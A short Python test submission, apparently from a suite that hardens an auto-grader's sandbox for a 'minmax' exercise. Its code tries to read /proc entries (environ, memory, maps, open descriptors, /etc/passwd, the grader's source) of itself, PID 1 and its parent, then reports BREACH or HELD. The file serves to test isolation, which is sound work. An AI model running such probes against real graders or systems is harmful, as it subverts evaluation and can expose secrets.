# attack: looks into the grader through /proc: environ, cmdline, mem, fd, root, of itself, of 1 and of the parent
# exercise: minmax
# earns: 0
import os

found = []
for who in ("self", "1", "CANARY_PID", str(os.getppid()), "thread-self"):
    for what in ("environ", "cmdline", "mem", "maps", "status", "root/etc/passwd", "cwd/minmax.py", "fd/9", "auxv"):
        try:
            found.append(open(f"/proc/{who}/{what}", "rb").read(20))
        except OSError:
            pass
raise Exception(f"BREACH: {found}" if found else "HELD: no /proc")
